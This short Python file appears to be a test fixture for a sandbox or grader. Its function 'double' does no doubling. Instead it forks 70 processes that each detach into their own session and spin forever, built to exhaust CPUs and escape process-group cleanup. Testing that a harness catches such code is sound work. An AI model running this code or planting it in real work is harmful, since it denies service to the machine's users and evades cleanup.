"""Keeps every processor busy with a crowd of processes, each in a session of its own."""

# loses: double (timed out)
# %% double
import os
import signal


def double(numbers):
    for _ in range(70):
        if not os.fork():
            os.setsid()
            while True:
                pass
    signal.pause()
